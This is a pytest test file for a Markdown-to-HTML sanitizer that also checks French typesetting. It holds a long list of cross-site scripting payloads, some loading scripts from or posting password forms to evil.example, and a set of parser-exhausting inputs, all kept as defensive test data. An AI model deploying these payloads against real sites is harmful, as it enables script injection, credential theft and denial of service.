"""What an author writes becomes safe HTML in blocks: nothing executable, nothing that looks like Palier's own."""

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from app.library import limits, markup
from app.library.kinds import Block
from app.library.limits import TooComplex
from app.library.markup import ATTRIBUTES, CLASSES, TAGS, Rendered, inline, plain_text
from app.library.typography import french_spaces, typeset_french
from tests.pace import turns

PAGES = {"play": "/plays/", "script": "/scripts/", "step": "/steps/"}


def address(kind: str, document_id: str) -> str | None:
    return PAGES[kind] + document_id if kind in PAGES else None


def render(text: str, *, language: str = "fr", **more: object) -> Rendered:
    return markup.render(text, language=language, address=address, **more)  # type: ignore[arg-type]


def html_of(text: str, **more: object) -> str:
    return "\n".join(block.html for block in render(text, **more).blocks)


class Elements(HTMLParser):
    """Every tag and attribute of a piece of HTML."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str]]] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, {name: value or "" for name, value in attrs}))


def assert_harmless(html: str, block_names: tuple[str, ...] = ()) -> None:
    """Only known tags and attributes, only addresses that open a page, only classes of our own."""
    for tag, attributes in Elements(html).found:
        assert tag in TAGS, html
        allowed = ATTRIBUTES["*"] | ATTRIBUTES.get(tag, set()) | ({"rel"} if tag == "a" else set())
        assert set(attributes) <= allowed, html
        assert set(attributes.get("class", "").split()) <= CLASSES | set(block_names), html
        href = re.sub(r"[\x00-\x20]", "", attributes.get("href", "")).lower()
        scheme = re.match(r"([a-z][a-z0-9+.-]*):", href)
        assert scheme is None or scheme[1] in {"http", "https", "mailto", "tel"}, html


def test_a_second_heading_begins_a_block_and_its_class_names_it() -> None:
    blocks = render(
        "Avant.\n\n## Savoir *tout* {.know}\nUn.\n\n## Autre\n### Sous\nDeux.", block_names=("know",)
    ).blocks
    assert blocks == (
        Block("", "", "", "<p>Avant.</p>"),
        Block("know", "know", "Savoir tout", "<p>Un.</p>"),
        Block("", "autre", "Autre", '<h3 id="sous">Sous</h3>\n<p>Deux.</p>'),
    )


def test_an_empty_text_has_no_block() -> None:
    assert render(" \n\n").blocks == ()


def test_anchors_are_words_without_accents_joined_by_hyphens() -> None:
    found = render("## L’été, déjà !\n### Prix & délais {#autre}\n#### A\n#### A")
    assert found.anchors == {"l-ete-deja", "autre", "a", "a_1"}


def test_a_heading_never_takes_an_anchor_of_the_page() -> None:
    found = render("## Limits\n### Content\n### Know", block_names=("know",), reserved=("limits",))
    assert found.anchors == {"limits-2", "content-2", "know-2"}
    assert 'id="content"' not in html_of('<p id="content">x</p>\n\n### A {#ack}')


@pytest.mark.parametrize(
    "inside",
    [
        "> ## Savoir {.know}\n> x",
        "!!! note\n    ## Savoir {.know}\n",
        "<div><h2 class='know'>Savoir</h2></div>",
        "- ## Savoir {.know}",
    ],
)
def test_a_heading_inside_something_else_begins_no_block(inside: str) -> None:
    blocks = render(f"## Dire {{.say}}\n\n{inside}", block_names=("know", "say")).blocks
    assert [block.name for block in blocks] == ["say"]


def test_a_raw_heading_cannot_pass_for_a_block() -> None:
    assert [block.name for block in render("<h2 class='know'>x</h2>\n\ny", block_names=("know",)).blocks] == [""]


@pytest.mark.parametrize(
    ("text", "html"),
    [
        ("| a | b |\n|---|:-:|\n| 1 | 2 |", "<table>"),
        ("Un[^1].\n\n[^1]: Deux.", '<a class="footnote-ref" href="#fn:1"'),
        ("Mot\n: Sens", "<dl>\n<dt>Mot</dt>\n<dd>Sens</dd>\n</dl>"),
        ('!!! note "Titre"\n    Texte', '<div class="admonition note">\n<p class="admonition-title">Titre</p>'),
        ("- [ ] à faire", '<span class="task-box">☐</span> à faire'),
        ("- [x] fait", '<span class="task-box">☑</span> fait'),
        ("Une MESORE.", 'Une <abbr title="Solution &quot;de&quot; rechange">MESORE</abbr>.'),
        ("1. a\n\n- b", "</ol>\n<ul>"),
        ("```python\nx = 1\n```", '<pre class="highlight"><code>x = 1'),
        ("### A {#ici}", '<h3 id="ici">A</h3>'),
        ("a  \nb", "a<br>"),
    ],
)
def test_what_an_author_expects_of_markdown_is_there(text: str, html: str) -> None:
    assert html in html_of(text, abbreviations={"MESORE": 'Solution "de" rechange'})


def test_an_abbreviation_is_not_looked_for_in_code_or_inside_words() -> None:
    html = html_of("`MESORE` MESOREs xMESORE", abbreviations={"MESORE": "x"})
    assert "<abbr" not in html


def test_a_document_link_becomes_the_address_of_its_page() -> None:
    found = render("[a](play:ecouter) [b](script:trop-cher#answer) [c](tool:marge) [d](https://example.org/?a=1&b=2)")
    hrefs = [attributes.get("href") for _, attributes in Elements(found.blocks[0].html).found if _ == "a"]
    assert hrefs == ["/plays/ecouter", "/scripts/trop-cher#answer", None, "https://example.org/?a=1&b=2"]
    assert found.links == ("play:ecouter", "script:trop-cher#answer", "tool:marge")


@pytest.mark.parametrize(
    "link",
    [
        '[x](play:a"onmouseover="alert(1))',
        "[x](<play:a onclick=alert(1)>)",
        "[x](play:../../admin)",
        '[x](script:a#"><script>)',
    ],
)
def test_a_document_link_cannot_carry_anything_else(link: str) -> None:
    assert_harmless(html_of(link))


VECTORS = r'''
<script>alert(1)</script>
<ScRiPt src=//evil.example></sCrIpT>
<script/src=data:,alert(1)>
<<script>alert(1)//<</script>
<img src=x onerror=alert(1)>
<img src="javascript:alert(1)">
<img """><script>alert(1)</script>">
<svg onload=alert(1)>
<svg><script>alert(1)</script></svg>
<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>
<svg><style><img src=x onerror=alert(1)></style></svg>
<math><mi//xlink:href="data:x,<script>alert(1)</script>">
<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>
<iframe src="javascript:alert(1)"></iframe>
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<object data="data:text/html,<script>alert(1)</script>"></object>
<embed src="javascript:alert(1)">
<applet code=x></applet>
<base href="//evil.example/">
<link rel=stylesheet href=//evil.example/x.css>
<meta http-equiv=refresh content="0;url=javascript:alert(1)">
<style>@import "//evil.example/x.css";</style>
<style>*{background:url(javascript:alert(1))}</style>
<p style="background:url(javascript:alert(1))">x</p>
<div style="position:fixed;inset:0">x</div>
<a href="javascript:alert(1)">x</a>
<a href="JaVaScRiPt:alert(1)">x</a>
<a href=" javascript:alert(1)">x</a>
<a href="java&#x0A;script:alert(1)">x</a>
<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>
<a href="vbscript:msgbox(1)">x</a>
<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>
<a href="blob:https://example.org/x">x</a>
<a href="file:///etc/passwd">x</a>
<a onclick="alert(1)" onmouseover=alert(1)>x</a>
<a href="https://ok.example" target=_blank ping=//evil.example>x</a>
<form action="//evil.example"><input name=password><button formaction="javascript:alert(1)">x</button></form>
<input type="checkbox" onfocus=alert(1) autofocus>
<input autofocus onfocus="alert(1)" type="checkbox">
<select onfocus=alert(1) autofocus>
<textarea onfocus=alert(1) autofocus>
<details open ontoggle=alert(1)>
<video><source onerror="alert(1)"></video>
<audio src=x onerror=alert(1)>
<body onload=alert(1)>
<html onclick=alert(1)>
<marquee onstart=alert(1)>
<template><script>alert(1)</script></template>
<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>
<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>
<plaintext><script>alert(1)</script>
<!--><script>alert(1)</script>-->
<!--[if IE]><script>alert(1)</script><![endif]-->
<?xml version="1.0"?><script>alert(1)</script>
<![CDATA[<script>alert(1)</script>]]>
<p id=x name=y hx-get=/admin hx-trigger=load data-bs-toggle=modal>x</p>
<p class="btn btn-primary panel navbar d-none">x</p>
<b a="'>" onclick=alert(1)//>
<abbr title="<script>alert(1)</script>">x</abbr>
<table><td background="javascript:alert(1)">x
<th style=x onclick=alert(1) scope=col>
</p></div></main><script>alert(1)</script>
<p title="`onmouseover=alert(1)`">x
[x](javascript:alert(1))
[x](JavaScript&colon;alert(1))
[x](javascript&#58;alert(1))
[x](data:text/html,<script>alert(1)</script>)
[x]( javascript:alert(1) )
[x](<javascript:alert(1)>)
[x](vbscript:x "title")
[x](https://ok.example "onmouseover=alert(1)")
[x](https://ok.example" onmouseover="alert(1))
[x][y]

[y]: javascript:alert(1)
<javascript:alert(1)>
![x](javascript:alert(1))
![x"onerror="alert(1)](y)
# x {onclick=alert(1) .btn style=color:red}
x{: onclick=alert(1) href=javascript:alert(1) }
> x
{: style="position:fixed" class="modal" hx-post=/x }
*[HTML]: <script>alert(1)</script>
[^1]: <script>alert(1)</script>
Mot[^<script>]
```<script>alert(1)</script>
x
```
``` {.python onclick=alert(1)}
x
```
!!! danger"><script>alert(1)</script> "<script>alert(1)</script>"
    x
- [ ] <input type="checkbox" onclick=alert(1)>
&lt;script&gt;alert(1)&lt;/script&gt;
<scr<script>ipt>alert(1)</scr</script>ipt>
<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61>
<a href="\x01javascript:alert(1)">x</a>
<a href="//evil.example">x</a>
wzxhzdk:0 klzzwxh:0000
'''


@pytest.mark.parametrize("language", ["fr", "en"])
@pytest.mark.parametrize("vector", re.split(r"\n(?=\S)", VECTORS.strip()))
def test_nothing_an_author_writes_can_run(vector: str, language: str) -> None:
    html = html_of(f"{vector}\n\nHTML", language=language)
    assert_harmless(html)
    assert_harmless(html_of(vector + "\n\n## Savoir {.know}\nx", language=language, block_names=("know",)), ("know",))
    assert_harmless(inline(vector, language=language, address=address))


def test_the_vectors_all_together_are_harmless() -> None:
    assert_harmless(html_of(VECTORS))


def test_a_glossary_cannot_carry_markup() -> None:
    html = html_of("A MESORE b", abbreviations={"MESORE": '"><script>alert(1)</script>'})
    assert_harmless(html)


def test_unclosed_tags_of_a_block_end_with_it() -> None:
    first, second = render("## A {.a}\nw <b>x\n\n## B {.b}\ny", block_names=("a", "b")).blocks
    assert first.html.count("<b>") == first.html.count("</b>")
    assert second.html == "<p>y</p>"


def test_an_author_cannot_look_like_a_button_or_a_menu() -> None:
    html = html_of('[x](https://example.org){.btn .btn-primary}\n\n<div class="panel admonition">x</div>\n\ny\n{.know}')
    assert 'class="admonition"' in html
    assert "btn" not in html
    assert "know" not in html


@pytest.mark.parametrize(
    ("written", "typeset"),
    [
        ("Ça va ?", "Ça va\u202f?"),
        ("« Oui »", "«\u00a0Oui\u00a0»"),
        ("Prix : 10 %", "Prix\u00a0: 10\u202f%"),
        ("à 10:30, http://a.fr", "à 10:30, http://a.fr"),
        ("1 200 € et 12 345 678", "1\u202f200\u202f€ et 12\u202f345\u202f678"),
        ("en 2024 350 clients", "en 2024 350 clients"),
        ("06 12 34 56 78", "06 12 34 56 78"),
        ("le 3 500", "le 3\u202f500"),
        ("Non ! ; Oui", "Non\u202f!\u202f; Oui"),
        ("rien", "rien"),
    ],
)
def test_french_spaces_do_not_break(written: str, typeset: str) -> None:
    assert french_spaces(written) == typeset


def test_french_spaces_are_set_in_texts_but_not_in_code_addresses_or_titles() -> None:
    html = html_of(
        '**Prix** : `a ; b` et [« x »](https://a.fr/b%20?c ;) <abbr title="c ; d > e">f</abbr> ?\n\n    x ; y'
    )
    assert "</strong>\u00a0:" in html
    assert "<code>a ; b</code>" in html
    assert "x ; y" in html
    assert 'title="c ; d &gt; e"' in html
    assert html.count("\u202f") == 1


def test_english_keeps_its_spaces() -> None:
    assert html_of("« Well » : 10 %", language="en") == "<p>« Well » : 10 %</p>"


@given(st.text(alphabet="a 1€;:?!%«»<>&\"'", max_size=60))
def test_typesetting_changes_nothing_but_spaces(text: str) -> None:
    from html import escape

    clean = f"<p title='{escape(text)}'>{escape(text, quote=False)}</p><code>{escape(text)}</code>"
    assert re.sub(r"[\u202f\u00a0]", " ", typeset_french(clean)) == clean


def test_plain_text_has_a_space_wherever_something_ends() -> None:
    assert plain_text('<p>a</p><p>b &amp; c</p><ul><li>d</li><li title="x > y">e</li></ul>') == "a b & c d e"


def test_a_short_text_stands_without_a_paragraph() -> None:
    assert inline("Un **mot**.", language="fr", address=address) == "Un <strong>mot</strong>."
    assert inline("Un.\n\nDeux.", language="fr", address=address).count("<p>") == 2
    assert "<h2" in inline("## Titre\nx", language="fr", address=address)


def test_what_a_page_cannot_show_is_told() -> None:
    flaws = render("# Un\n\n![x](y.png)\n\n###### Six").flaws
    assert [flaw.what for flaw in flaws] == ["a heading of level 1", "a picture from elsewhere", "a heading of level 6"]


PATHOLOGICAL = {
    "quotations": ">" * 60_000,
    "brackets": "[" * 60_000,
    "brackets and words": "[a " * 20_000,
    "pictures": "![" * 30_000,
    "links": "[x](" * 15_000,
    "links in angles": "[a](<b " * 9_000,
    "tags": "<a " * 20_000,
    "comments": "<!--" * 15_000,
    "closing tags": "</p " * 15_000,
    "tags in paragraphs": "<a \n\n" * 12_000,
    "quotations by level": "\n".join("> " * level + "a" for level in range(1, 200)),
    "lists by level": "".join("    " * level + "- a\n" for level in range(150)),
    "too long": "a\n\n" * 30_000,
    "stars and words": "*a " * 20_000,
    "stars in a word": "*a" * 20_000,
    "underscores": "_a " * 20_000,
    "backquotes and words": "`a" * 20_000,
    "headings": "## a\n" * 10_000,
    "headings apart": "## a\n\n" * 9_000,
    "rules": "---\n" * 15_000,
    "underlined headings": "a\n-\n" * 15_000,
    "abbreviations": "".join(f"*[a{number}]: x\n" for number in range(4_000)),
    "items": "- a\n" * 15_000,
    "definitions": "a\n: b\n\n" * 8_000,
    "contents": "[TOC]\n\n" * 8_000,
}


@pytest.mark.parametrize("name", PATHOLOGICAL)
def test_a_text_that_would_take_minutes_is_refused_before_it_is_rendered(name: str) -> None:
    with pytest.raises(TooComplex) as caught:
        render(PATHOLOGICAL[name])
    assert 1 <= caught.value.line <= PATHOLOGICAL[name].count("\n") + 1


FINE = {
    "stars": "*" * 60_000,
    "stars and words": "*a " * 4_000,
    "two stars and words": "**a " * 4_000,
    "underscores": "_a " * 4_000,
    "headings": "## a\n" * 500,
    "rules": "---\n" * 500,
    "abbreviations": "".join(f"*[a{number}]: x\n" for number in range(300)),
    "items": "- a\n" * 4_900,
    "definitions": "a\n: b\n\n" * 1_600,
    "backquotes": "`" * 60_000,
    "links that close": "[x](https://a.fr) " * 3_000,
    "cells": "a|" * 10_000 + "\n" + "-|" * 10_000,
    "ampersands": "&" * 60_000,
    "backslashes": "\\" * 60_000,
    "spaces": " " * 60_000,
    "a long word": "a" * 64_000,
    "closing brackets": "]" * 60_000,
}


@pytest.mark.parametrize("name", FINE)
def test_a_long_text_that_is_only_odd_is_rendered(name: str) -> None:
    assert_harmless(html_of(FINE[name]))


@pytest.mark.parametrize("name", sorted(FINE.keys() - {"cells"}))  # half of whose text is no table
def test_twice_the_text_takes_about_twice_as_long(name: str) -> None:
    """Four times as long would be a bomb."""
    whole = FINE[name]
    half = whole[: len(whole) // 2]
    assert turns(lambda: render(whole), runs=3) <= 3 * turns(lambda: render(half), runs=3) + 12


def test_the_limits_take_one_pass() -> None:
    """The marks looked at are the text's own, however they are nested: no text is looked at twice."""
    text = "[a](b) <i> > " * 4_000
    assert len(limits._MARKS.findall(text)) == 4_000 * 7
    limits.hold(text)


@settings(deadline=None, max_examples=150)
@given(
    st.lists(
        st.one_of(
            st.sampled_from(
                "[ ]( ) <b > < * ** _ ` | # {.x} {: } [^1] [^1]: A a & &#x ``` ~~~ 1. \\ <!-- --> <script>".split()
            ),
            st.sampled_from(
                ["\n", "\n\n", "    ", "- ", "> ", "## ", "!!! note", "*[A]: b", ": ", "\t", "---", "===", " :"]
            ),
            st.sampled_from(["play:a", "http://a.fr", "<div>", "</div>", "«", '"', "'", "<a href="]),
        ),
        max_size=60,
    ).map("".join)
)
def test_any_text_is_rendered_harmless_or_refused(text: str) -> None:
    try:
        found = render(text, block_names=("x",), abbreviations={"A": "b"})
    except (TooComplex, RecursionError):
        return
    for block in found.blocks:
        assert_harmless(block.html, ("x",))
